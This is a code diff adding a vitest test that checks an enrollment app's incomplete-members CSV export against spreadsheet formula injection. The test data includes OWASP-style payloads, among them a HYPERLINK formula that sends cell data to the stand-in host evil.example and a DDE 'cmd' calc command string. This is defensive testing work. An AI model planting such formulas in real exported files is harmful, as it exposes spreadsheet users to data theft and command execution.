@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
 import { buildEventLog, buildJobHandlers } from '../../src/app.ts';
 import { JobWorker } from '../../src/jobs/job-worker.ts';
 import { BenefitChangeService } from '../../src/modules/benefit-changes/benefit-change.service.ts';
@@ -243,6 +244,50 @@ describe('counts and the incomplete members report', () => {
     expect(completed).toMatchObject({ status: 'completed', completed_member_count: 2, incomplete_member_count: 2 });
     await createMember(w.admin, { employer: w.employer.id, first_name: 'After' });
     expect(await ok(w.admin.get(`/open_enrollment_windows/${w.window.id}`))).toMatchObject({ completed_member_count: 2, incomplete_member_count: 2 });
+  });
+});
+
+describe('the incomplete members CSV and spreadsheet formulas', () => {
+  // Names a spreadsheet would run as formulas (OWASP CSV injection), and names it would not.
+  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+  const harmless = ['Dana', 'O"Brien, Jr.', "'=already text", 'a=1+1', '-12.50'];
+
+  it('when members are named like formulas, then each such cell is read back by a CSV parser as text after a single quote, and every other cell unchanged', async () => {
+    const w = await createEnrollmentWorld(t);
+    const created: { id: string; first_name: string; last_name: string; email: string | null }[] = [];
+    for (const name of [...formulas, ...harmless]) {
+      created.push(await createMember(w.admin, { employer: w.employer.id, first_name: name, last_name: name }));
+    }
+    created.push(await createMember(w.admin, { employer: w.employer.id, first_name: 'Mail', email: '=cmd@example.com' }));
+
+    const csv = await w.admin.get(`/open_enrollment_windows/${w.window.id}/incomplete_members_report?format=csv`);
+    expect(csv.status).toBe(200);
+    const records = parse<Record<string, string>>(csv.text, { columns: true });
+    const json = await ok(w.admin.get(`/open_enrollment_windows/${w.window.id}/incomplete_members_report?page_size=100`));
+    expect(json.next).toBeNull();
+
+    const dangerous = new Set([...formulas, '=cmd@example.com']);
+    const asText = (value: string | null) => (value === null ? '' : dangerous.has(value) ? `'${value}` : value);
+    expect(records).toEqual(
+      (json.results as Record<string, string | null>[]).map((row) => ({
+        member: row.member,
+        first_name: asText(row.first_name!),
+        last_name: asText(row.last_name!),
+        email: asText(row.email!),
+        enrollment: row.enrollment ?? '',
+        enrollment_status: row.enrollment_status ?? '',
+      })),
+    );
+    const byId = new Map(records.map((record) => [record.member, record]));
+    for (const member of created) expect(byId.has(member.id), member.first_name).toBe(true);
+    for (const name of formulas) {
+      expect(records.find((record) => record.first_name === `'${name}`), name).toBeDefined();
+      expect(records.find((record) => record.last_name === `'${name}`), name).toBeDefined();
+    }
+    for (const name of harmless) expect(records.find((record) => record.first_name === name && record.last_name === name), name).toBeDefined();
+    expect(records.find((record) => record.email === "'=cmd@example.com")).toBeDefined();
+    // No cell of the file starts with a formula character, as a spreadsheet would see it.
+    for (const record of records) for (const cell of Object.values(record)) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?![0-9]+(\.[0-9]+)?$)/);
   });
 });
 
